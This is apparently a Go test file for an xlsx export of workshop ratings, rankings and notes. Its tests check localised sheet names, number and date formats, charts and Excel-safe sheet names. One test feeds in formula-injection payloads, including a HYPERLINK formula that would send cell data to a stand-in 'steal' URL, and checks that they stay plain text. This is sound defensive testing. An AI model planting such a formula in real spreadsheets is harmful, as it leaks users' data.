package workbook

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io/fs"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"deckhand/assets"
	"deckhand/cards"
	"deckhand/game"
)

// exampleFile is the example workshop (Swedish, two tables).
func exampleFile(t *testing.T) *game.File {
	t.Helper()
	f, err := game.ReadFile(bytes.NewReader(assets.ExampleWorkshop))
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// writeWorkbook writes the workbook of f into a temporary file and opens
// it with excelize, as a client's spreadsheet would read it.
func writeWorkbook(t *testing.T, f *game.File, o Options) (path string, x *excelize.File) {
	t.Helper()
	path = filepath.Join(t.TempDir(), "results.xlsx")
	var buf bytes.Buffer
	if err := Write(&buf, f, game.Results(f), o); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path, openWorkbook(t, path)
}

func openWorkbook(t *testing.T, path string) *excelize.File {
	t.Helper()
	x, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	t.Cleanup(func() { x.Close() })
	return x
}

// zipPart is one part of the xlsx file, as its XML.
func zipPart(t *testing.T, path, name string) string {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	data, err := fs.ReadFile(z, name)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return string(data)
}

// row is the values of a sheet's row (from 1) as shown, formatted.
func row(t *testing.T, x *excelize.File, sheet string, n int) []string {
	t.Helper()
	rows, err := x.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if n > len(rows) {
		t.Fatalf("%s has %d rows, not %d", sheet, len(rows), n)
	}
	return rows[n-1]
}

// column is where the header head is on a sheet's first row, from 0.
func columnOf(t *testing.T, x *excelize.File, sheet, head string) int {
	t.Helper()
	i := slices.Index(row(t, x, sheet, 1), head)
	if i < 0 {
		t.Fatalf("%s has no column %q: %q", sheet, head, row(t, x, sheet, 1))
	}
	return i
}

func value(t *testing.T, x *excelize.File, sheet string, col, r int, raw bool) string {
	t.Helper()
	v, err := x.GetCellValue(sheet, cellName(col, r), excelize.Options{RawCellValue: raw})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// A Swedish workshop's workbook is Swedish, a Finnish one's Finnish: the
// sheets, the deck's areas, the headers and the quadrants; the tables keep
// the names they were given.
func TestSheetsAndHeadersAreInTheWorkshopsLanguage(t *testing.T) {
	f := exampleFile(t)
	_, x := writeWorkbook(t, f, Options{})
	want := []string{"Rangordning", "Matris", "Insamling", "Användning", "Kommunikation", "Utveckling", "Bord 1", "Bord 2", "Anteckningar", "Bedömningar"}
	if got := x.GetSheetList(); !slices.Equal(got, want) {
		t.Errorf("sheets %q, want %q", got, want)
	}
	if got := row(t, x, "Rangordning", 1); !slices.Equal(got, []string{"Plats", "Kod", "Titel", "Bord", "Område", "Väg",
		"Kund (medelvärde)", "Kund (lägsta)", "Kund (högsta)", "Kund (bedömare)",
		"Organisation (medelvärde)", "Organisation (lägsta)", "Organisation (högsta)", "Organisation (bedömare)", "Kvadrant"}) {
		t.Errorf("ranking header %q", got)
	}
	if got := row(t, x, "Bedömningar", 1); len(got) != len(game.ResultsColumns) || got[0] != "Workshop" || got[14] != "Värde" || got[16] != "Tid (UTC)" {
		t.Errorf("ratings header %q", got)
	}
	if got := row(t, x, "Rangordning", 2); got[len(got)-1] != "Gör nu" {
		t.Errorf("the first ranked card's quadrant is %q, want Gör nu", got[len(got)-1])
	}

	f.Workshop.Language = "fi"
	_, x = writeWorkbook(t, f, Options{})
	want = []string{"Paremmuusjärjestys", "Matriisi", "Keruu", "Käyttö", "Kommunikointi", "Kehittäminen", "Bord 1", "Bord 2", "Muistiinpanot", "Arviot"}
	if got := x.GetSheetList(); !slices.Equal(got, want) {
		t.Errorf("Finnish sheets %q, want %q", got, want)
	}
	if got := row(t, x, "Muistiinpanot", 1); !slices.Equal(got, []string{"Laji", "Pöytä", "Kirjuri", "Koodi", "Otsikko", "Teksti", "Aika (UTC)"}) {
		t.Errorf("Finnish notes header %q", got)
	}
}

// The Ratings sheet is the results CSV of the same workshop, row for row
// and value for value: texts as they are (without the CSV's guard against
// formulas), the value a number, the date and time Excel dates showing
// the same day and minute.
func TestTheRatingsSheetHoldsTheCSVsRows(t *testing.T) {
	f := exampleFile(t)
	f.Teams[0].Name = "=Bord 1" // guarded in the CSV, a plain string on the sheet
	var buf bytes.Buffer
	if err := game.WriteResultsCSV(&buf, []*game.File{f}, true, game.Comma); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	_, x := writeWorkbook(t, f, Options{IncludeNames: true})
	const sheet = "Bedömningar"
	rows, err := x.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(records) || len(records) < 50 {
		t.Fatalf("the sheet has %d rows, the CSV %d", len(rows), len(records))
	}
	date, val, at := slices.Index(game.ResultsColumns, "date"), slices.Index(game.ResultsColumns, "value"), slices.Index(game.ResultsColumns, "time")
	for i, rec := range records[1:] {
		r := i + 2
		for c, v := range rec {
			shown := value(t, x, sheet, c, r, false)
			switch c {
			case date:
				if shown != v {
					t.Errorf("row %d: date shows %q, the CSV has %q", r, shown, v)
				}
			case at:
				want, _ := time.Parse(time.RFC3339, v)
				serial, err := strconv.ParseFloat(value(t, x, sheet, c, r, true), 64)
				if err != nil || shown != want.UTC().Format("2006-01-02 15:04") || math.Abs(serial-excelTime(want))*86400 > 0.5 {
					t.Errorf("row %d: time shows %q (%v, %v), the CSV has %q", r, shown, serial, err, v)
				}
			case val:
				if typ, _ := x.GetCellType(sheet, cellName(c, r)); typ != excelize.CellTypeUnset || value(t, x, sheet, c, r, true) != v {
					t.Errorf("row %d: value %q of type %v, the CSV has %q", r, value(t, x, sheet, c, r, true), typ, v)
				}
			case slices.Index(game.ResultsColumns, "type"), slices.Index(game.ResultsColumns, "theme"), slices.Index(game.ResultsColumns, "area"),
				slices.Index(game.ResultsColumns, "level"), slices.Index(game.ResultsColumns, "criterion"),
				slices.Index(game.ResultsColumns, "perspective"), slices.Index(game.ResultsColumns, "rater"):
				// named in the workbook's language: TestTheRatingsSheetSaysTheDecksKeysInItsLanguage
			default:
				if want := cards.UnescapeCell(v); shown != want {
					t.Errorf("row %d, %s: %q, the CSV has %q", r, game.ResultsColumns[c], shown, v)
				}
			}
		}
	}
	if records[1][4] != "'=Bord 1" || rows[1][4] != "=Bord 1" {
		t.Errorf("the table's name is %q in the CSV and %q on the sheet", records[1][4], rows[1][4])
	}
}

// Numbers are stored as numbers, means with a format of one or two
// decimals and counts as whole numbers; dates and times as Excel dates
// with a date format; a score nobody gave is an empty cell, never a zero.
func TestNumbersAreNumbersAndDatesAreDates(t *testing.T) {
	f := exampleFile(t)
	unrated := f.Plays[0]
	unrated.ID, unrated.Position = "a-card-nobody-rated", 99
	f.Plays = append(f.Plays, unrated)
	r := game.Results(f)
	_, x := writeWorkbook(t, f, Options{})
	const ranking = "Rangordning"
	format := func(sheet string, col, row int) string {
		t.Helper()
		id, err := x.GetCellStyle(sheet, cellName(col, row))
		if err != nil {
			t.Fatal(err)
		}
		style, err := x.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		if style.CustomNumFmt == nil {
			return ""
		}
		return *style.CustomNumFmt
	}
	isNumber := func(sheet string, col, row int) (float64, bool) {
		typ, err := x.GetCellType(sheet, cellName(col, row))
		n, perr := strconv.ParseFloat(value(t, x, sheet, col, row, true), 64)
		return n, err == nil && perr == nil && typ == excelize.CellTypeUnset
	}
	meanCol, rankCol, ratersCol := columnOf(t, x, ranking, "Kund (medelvärde)"), columnOf(t, x, ranking, "Plats"), columnOf(t, x, ranking, "Kund (bedömare)")
	for i, p := range r.Plays {
		row := i + 2
		if n, ok := isNumber(ranking, rankCol, row); !ok || n != float64(i+1) {
			t.Errorf("rank of row %d: %v, %v", row, n, ok)
		}
		got, ok := isNumber(ranking, meanCol, row)
		switch {
		case !p.Customer.Rated && value(t, x, ranking, meanCol, row, true) != "":
			t.Errorf("%s is not rated from the customer's side, yet its mean is %q", p.Play.Code, value(t, x, ranking, meanCol, row, true))
		case p.Customer.Rated && (!ok || math.Abs(got-p.Customer.Mean) > 1e-9):
			t.Errorf("%s: customer mean %v (a number: %v), want %v", p.Play.Code, got, ok, p.Customer.Mean)
		case p.Customer.Rated && format(ranking, meanCol, row) != "0.0#":
			t.Errorf("%s: the mean's format is %q", p.Play.Code, format(ranking, meanCol, row))
		}
		if n, ok := isNumber(ranking, ratersCol, row); p.Customer.Rated && (!ok || n != float64(p.Customer.Raters) || format(ranking, ratersCol, row) != "") {
			t.Errorf("%s: raters %v (%v), want the whole number %d", p.Play.Code, n, ok, p.Customer.Raters)
		}
	}
	if !slices.ContainsFunc(r.Plays, func(p game.PlayResult) bool { return !p.Customer.Rated }) {
		t.Error("the example has no card left unrated; the blank cells go untested")
	}
	const ratings = "Bedömningar"
	if n, ok := isNumber(ratings, 3, 2); !ok || n != excelTime(time.Date(2026, 3, 12, 0, 0, 0, 0, time.UTC)) || format(ratings, 3, 2) != "yyyy-mm-dd" { // Swedish: TestDatesAreShownAsTheLanguageWritesThem
		t.Errorf("the workshop's date is %v (a number: %v) formatted %q", n, ok, format(ratings, 3, 2))
	}
	if _, ok := isNumber(ratings, 16, 2); !ok || format(ratings, 16, 2) != "yyyy-mm-dd hh:mm" {
		t.Errorf("a rating's time is not a date-time: %q formatted %q", value(t, x, ratings, 16, 2, true), format(ratings, 16, 2))
	}
}

// Every sheet has its header row frozen, an autofilter from its header to
// its last row and column, and columns as wide as their longest text
// (within bounds): a title column is wider than a code column.
func TestEverySheetHasAFrozenHeaderAFilterAndFittedColumns(t *testing.T) {
	_, x := writeWorkbook(t, exampleFile(t), Options{})
	filters := map[string]string{}
	for _, d := range x.GetDefinedName() {
		if d.Name == "_xlnm._FilterDatabase" {
			filters[d.Scope] = d.RefersTo
		}
	}
	for _, sheet := range x.GetSheetList() {
		panes, err := x.GetPanes(sheet)
		if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
			t.Errorf("%s: panes %+v, %v; want the first row frozen", sheet, panes, err)
		}
		rows, _ := x.GetRows(sheet)
		width := len(rows[0])
		if sheet == "Matris" {
			width = len(matrixColumns) // the midpoint's lines beside the points are not filtered
		}
		want := sheetRef(sheet, "$A$1:$"+colName(width-1)+"$"+strconv.Itoa(len(rows)))
		if got := filters[sheet]; got != want {
			t.Errorf("%s: autofilter over %q, want %q", sheet, got, want)
		}
		for i := range rows[0] {
			w, err := x.GetColWidth(sheet, colName(i))
			if err != nil || w < minWidth || w > maxLongWidth {
				t.Errorf("%s: column %s is %v wide (%v)", sheet, colName(i), w, err)
			}
		}
	}
	code, _ := x.GetColWidth("Rangordning", "B")
	title, _ := x.GetColWidth("Rangordning", "C")
	if code >= title || code > 10 || title < maxTextWidth { // the titles are longer, and wrap
		t.Errorf("code column %v wide, title column %v: not fitted to their texts", code, title)
	}
}

// A text that a spreadsheet would run as a formula (starting with =, +,
// -, @, a tab or a carriage return) is a string cell holding that text,
// with no formula, wherever it is: a note, a table's name, a team's own
// routine.
func TestTextsThatLookLikeFormulasStayStrings(t *testing.T) {
	f := exampleFile(t)
	evil := `=HYPERLINK("https://example.com/steal?d="&A1,"Klicka")`
	f.Notes[0].Text = evil
	f.Teams[0].Name = "+SUM(1,2)"
	f.Notes[1].Text = "-1+2"
	f.Notes[2].Text = "@cmd"
	f.Notes[3].Text = "\t=1"
	path, x := writeWorkbook(t, f, Options{})
	const notes = "Anteckningar"
	text, table := columnOf(t, x, notes, "Text"), columnOf(t, x, notes, "Bord")
	found := map[string]bool{}
	rows, _ := x.GetRows(notes)
	for r := 2; r <= len(rows); r++ {
		v := value(t, x, notes, text, r, true)
		if !slices.Contains([]string{evil, "-1+2", "@cmd", "\t=1"}, v) {
			continue
		}
		found[v] = true
		if got := value(t, x, notes, table, r, true); v == evil && got != "+SUM(1,2)" {
			t.Errorf("the note's table is %q", got)
		}
		formula, err := x.GetCellFormula(notes, cellName(text, r))
		typ, _ := x.GetCellType(notes, cellName(text, r))
		if formula != "" || err != nil || typ != excelize.CellTypeSharedString {
			t.Errorf("note %q: formula %q (%v), type %v; want a string", v, formula, err, typ)
		}
	}
	if len(found) != 4 {
		t.Errorf("found %v of the four notes", found)
	}
	if !slices.Contains(x.GetSheetList(), "+SUM(1,2)") {
		t.Errorf("no sheet for the table +SUM(1,2): %q", x.GetSheetList())
	}
	for i := range x.GetSheetList() {
		part := zipPart(t, path, "xl/worksheets/sheet"+strconv.Itoa(i+1)+".xml")
		if strings.Contains(part, "<f>") || strings.Contains(part, "<f ") {
			t.Errorf("sheet %d holds a formula", i+1)
		}
	}
}

// The matrix is a native scatter chart on its own sheet: organisation
// across and customer up, on the deck's 1–5 scale, with axis titles in
// the workshop's language, one series per table drawing that table's
// rated cards (named by the table, for the legend), and one series for
// the midpoint's lines.
func TestTheMatrixIsANativeScatterChart(t *testing.T) {
	f := exampleFile(t)
	path, _ := writeWorkbook(t, f, Options{})
	chart := chartXML(t, path)
	for _, want := range []string{"<scatterChart>", "Organisationens perspektiv (Lönsamhet, Genomförbarhet)", "Kundens perspektiv (Önskvärdhet, Användbarhet)", `<min val="1">`, `<max val="5">`, "<legend>"} {
		if !strings.Contains(chart, want) {
			t.Errorf("the chart lacks %s", want)
		}
	}
	// Values across are numbers: as text, Excel would place the points at 1, 2, 3 … instead.
	if n := strings.Count(chart, "<xVal><numRef>"); n != strings.Count(chart, "<ser>") || strings.Contains(chart, "<xVal><strRef>") {
		t.Errorf("%d series take their values across as numbers:\n%s", n, chart)
	}
	// Both axes are value axes, as Excel writes them, with a tick at every value.
	if strings.Count(chart, "<valAx>") != 2 || strings.Count(chart, `<majorUnit val="1">`) != 2 || strings.Contains(chart, "<lblAlgn") || !strings.Contains(chart, `<crossBetween val="midCat">`) {
		t.Errorf("the axes are not both value axes with ticks every 1:\n%s", chart)
	}
	if !strings.Contains(zipPart(t, path, "xl/worksheets/sheet2.xml"), "<drawing ") {
		t.Error("the chart is not on the second sheet, Matris")
	}
	for r, want := range map[int][2]string{2: {"3", "1"}, 3: {"3", "5"}, 4: {"", ""}, 5: {"1", "3"}, 6: {"5", "3"}} {
		_, x := writeWorkbook(t, f, Options{})
		if got := [2]string{value(t, x, "Matris", 6, r, true), value(t, x, "Matris", 7, r, true)}; got != want {
			t.Errorf("midpoint row %d: %q, want %q", r, got, want)
		}
	}
}

// The notes list the decisions and actions first, then the ideas,
// concerns and quotes, each with its table, the table's note-taker and
// the card it is about.
func TestNotesListDecisionsAndActionsFirst(t *testing.T) {
	f := exampleFile(t)
	_, x := writeWorkbook(t, f, Options{})
	rows, _ := x.GetRows("Anteckningar")
	live := 0
	for _, n := range f.Notes {
		if !n.Deleted {
			live++
		}
	}
	if len(rows)-1 != live {
		t.Fatalf("%d notes on the sheet, %d in the workshop", len(rows)-1, live)
	}
	order := []string{"Beslut", "Åtgärd", "Idé", "Farhåga", "Citat"}
	last, withCard := 0, 0
	for _, r := range rows[1:] {
		i := slices.Index(order, r[0])
		if i < last {
			t.Errorf("a note of kind %q after one of kind %q", r[0], order[last])
		}
		last = max(last, i)
		if len(r) > 4 && r[3] != "" && r[4] != "" {
			withCard++
		}
	}
	if rows[1][0] != "Beslut" || withCard == 0 {
		t.Errorf("first note %q; %d notes name their card", rows[1], withCard)
	}
}

// A workbook of several workshops has one ranking, one sheet of notes and
// one of ratings, each row with its workshop, so the client filters by
// workshop; each workshop's ranking starts from 1.
func TestAWorkbookOfSeveralWorkshops(t *testing.T) {
	one, two := exampleFile(t), exampleFile(t)
	two.Workshop.Title, two.Workshop.Date = "Andra workshopen", "2026-04-02"
	b := New(Options{})
	defer b.Close()
	for _, f := range []*game.File{one, two} {
		if err := b.Add(f, game.Results(f)); err != nil {
			t.Fatal(err)
		}
	}
	path := filepath.Join(t.TempDir(), "all.xlsx")
	var buf bytes.Buffer
	if err := b.Write(&buf); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	x := openWorkbook(t, path)
	if got := x.GetSheetList(); !slices.Equal(got, []string{"Rangordning", "Anteckningar", "Bedömningar"}) {
		t.Errorf("sheets %q", got)
	}
	plays := len(game.Results(one).Plays)
	rows, _ := x.GetRows("Rangordning")
	if len(rows) != 1+2*plays || rows[0][0] != "Workshop" || rows[0][1] != "Datum" || rows[0][2] != "Plats" {
		t.Fatalf("%d ranking rows, header %q; want %d", len(rows), rows[0], 1+2*plays)
	}
	if first, second := rows[1], rows[1+plays]; first[0] != one.Workshop.Title || second[0] != "Andra workshopen" || second[1] != "2026-04-02" || second[2] != "1" {
		t.Errorf("the workshops' first rows: %q and %q", first, second)
	}
	ratings, _ := x.GetRows("Bedömningar")
	gotPlays, gotRatings := b.Written()
	if gotPlays != 2*plays || gotRatings != len(ratings)-1 || gotRatings != 2*len(game.CountedRatings(one)) {
		t.Errorf("written %d plays and %d ratings; the sheet has %d ratings", gotPlays, gotRatings, len(ratings)-1)
	}
	notes, _ := x.GetRows("Anteckningar")
	if notes[0][0] != "Workshop" || notes[len(notes)-1][0] != "Andra workshopen" {
		t.Errorf("notes: header %q, last %q", notes[0], notes[len(notes)-1])
	}
}

// Sheet names are what Excel accepts: none of : \ / ? * [ ], at most 31
// characters, no apostrophe at either end, and no two the same in any
// case ("History" is Excel's own).
func TestSheetNamesAreOnesExcelAccepts(t *testing.T) {
	var n sheetNames
	for _, c := range []struct{ in, want string }{
		{"Bord 1", "Bord 1"},
		{"bord 1", "bord 1 (2)"},
		{"BORD 1", "BORD 1 (3)"},
		{"Mål: 2026/27 [utkast]?*", "Mål- 2026-27 -utkast---"},
		{"'citerad'", "citerad"},
		{"  ", "-"},
		{"history", "history (2)"},
		{"En mycket lång tabellrubrik som inte får plats", "En mycket lång tabellrubrik som"},
		{"En mycket lång tabellrubrik som inte heller får plats", "En mycket lång tabellrubrik (2)"},
	} {
		if got := n.name(c.in); got != c.want {
			t.Errorf("name(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	// A table named as an area, or with signs Excel refuses, still gets a
	// sheet of its own, and the workbook opens.
	f := exampleFile(t)
	f.Teams[0].Name, f.Teams[1].Name = "Insamling", "Bord: 2/3"
	_, x := writeWorkbook(t, f, Options{})
	if got := x.GetSheetList(); !slices.Contains(got, "Insamling (2)") || !slices.Contains(got, "Bord- 2-3") {
		t.Errorf("sheets %q", got)
	}
}
